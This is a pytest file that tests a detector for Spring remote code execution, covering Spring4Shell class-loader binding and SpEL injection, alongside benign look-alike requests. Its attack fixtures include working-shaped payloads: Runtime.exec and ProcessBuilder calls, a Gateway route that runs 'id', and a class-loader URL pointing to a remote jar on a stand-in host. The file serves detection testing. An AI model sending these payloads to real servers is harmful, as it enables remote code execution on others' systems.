"""spring_rce: a request parameter bound to the class loader (Spring4Shell) and SpEL that reaches a class
that runs code; parameters named `class`, prose naming Java's classes and templates' expressions are no
finding. Every request here was written for these tests, in the shape the public exploits send."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.verdict import WorkerVerdict
from threats import catalogue as C
from workers.detect.spring import check_spring, spring_texts

from .test_body_parts import flow
from .test_engine import Lab
from .test_headers import CURL, request

FORM = "application/x-www-form-urlencoded"
SPRING4SHELL = (
    b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"
    b"&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
)
ROUTING = b'T(java.lang.Runtime).getRuntime().exec("touch /tmp/x")'
GATEWAY = (
    b'{"id":"x","filters":[{"name":"AddResponseHeader","args":{"name":"R","value":"#{new String('
    b"T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime()"
    b'.exec(new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://198.18.0.9"}'
)

ATTACKS = [
    (b"/", [], SPRING4SHELL, FORM, "Spring4Shell in a form body"),
    (b"/?class.module.classLoader.URLs%5B0%5D=0", [], b"", "", "in the query"),
    (b"/?class%2Emodule%2EclassLoader%2EDefaultAssertionStatus=nonsense", [], b"", "", "the dots escaped"),
    (b"/", [], b"class['module'].classLoader.resources=x", FORM, "bracket access"),
    (b"/a?x=1&class.classLoader.URLs[0]=jar:http://198.18.0.9/x.jar!/", [], b"", "", "CVE-2010-1622"),
    (
        b"/upload",
        [],
        b'--b\r\nContent-Disposition: form-data; name="class.module.classLoader.resources.x"\r\n\r\n1\r\n--b--\r\n',
        "multipart/form-data; boundary=b",
        "a multipart field's name",
    ),
    (b"/functionRouter", [(b"spring.cloud.function.routing-expression", ROUTING)], b"", "", "the header"),
    (b"/actuator/gateway/routes/x", [], GATEWAY, "application/json", "a Gateway route's SpEL"),
    (b"/q?expr=T%28java.lang.ProcessBuilder%29", [], b"", "", "a type reference, escaped"),
    (b"/q", [], b"e=new+java.lang.ProcessBuilder%28%7B%22id%22%7D%29.start%28%29", FORM, "a process built"),
]
BENIGN = [
    (b"/search?class=economy&module=3", [], b"", "", "parameters named class and module"),
    (b"/", [], b"class=first&classLoader=none", FORM, "fields of those names, no walk"),
    (b"/api", [], b'{"class": {"module": "x"}}', "application/json", "JSON's own keys"),
    (b"/docs", [], b"q=java.lang.Runtime+runs+processes", FORM, "prose naming Java's classes"),
    (b"/t", [(b"spring.cloud.function.routing-expression", b"uppercase")], b"", "", "a routing function"),
    (b"/tpl", [], b"msg=Hello+%23%7Buser.name%7D%2C+T%28x%29+is+due", FORM, "a template's expression"),
    (b"/style", [], b"q=.class.module+is+a+CSS+selector", FORM, "a selector"),
]


def texts(uri: bytes, headers: list[tuple[bytes, bytes]], body: bytes, ctype: str) -> list[bytes]:
    return spring_texts(uri, [(b"Host", b"shop"), *headers], body, ctype)


@pytest.mark.parametrize(("uri", "headers", "body", "ctype", "why"), ATTACKS)
def test_class_loader_binding_and_spel_are_spring_rce(
    uri: bytes, headers: list[tuple[bytes, bytes]], body: bytes, ctype: str, why: str
) -> None:
    hit = check_spring(texts(uri, headers, body, ctype))
    assert hit is not None and hit.threat is C.SPRING_RCE, why


@pytest.mark.parametrize(("uri", "headers", "body", "ctype", "why"), BENIGN)
def test_names_and_prose_are_no_finding(
    uri: bytes, headers: list[tuple[bytes, bytes]], body: bytes, ctype: str, why: str
) -> None:
    assert check_spring(texts(uri, headers, body, ctype)) is None, why


@given(st.binary(max_size=400), st.binary(max_size=200))
def test_the_check_is_total(body: bytes, value: bytes) -> None:
    hit = check_spring(texts(b"/?class.x=" + value, [(b"X", value)], b"T(java." + body, FORM))
    assert hit is None or (hit.threat is C.SPRING_RCE and len(hit.excerpt) <= C.MAX_FINDING_EXCERPT)


@pytest.mark.parametrize(
    ("headers", "body", "path", "port"),
    [
        ([*CURL, ("Content-Type", FORM)], SPRING4SHELL, "/", 42930),
        (
            [*CURL, ("spring.cloud.function.routing-expression", ROUTING.decode())],
            b"",
            "/functionRouter",
            42931,
        ),
    ],
)
def test_spring_rce_is_reset_in_protect(
    headers: list[tuple[str, str]], body: bytes, path: str, port: int
) -> None:
    lab = Lab()
    verdicts = lab.send(flow(request("POST", headers, body, path), port))
    assert verdicts[-1] is WorkerVerdict.RESET_FLOW
    [event] = lab.threats("spring_rce")
    assert event["action"] == "reset" and event["group"] == "web"


def test_a_form_with_class_and_module_fields_stays_quiet() -> None:
    lab = Lab()
    body = b"class=economy&module=3&classLoader=none"
    verdicts = lab.send(flow(request("POST", [*CURL, ("Content-Type", FORM)], body, "/book"), 42932))
    assert WorkerVerdict.RESET_FLOW not in verdicts and lab.threats() == []
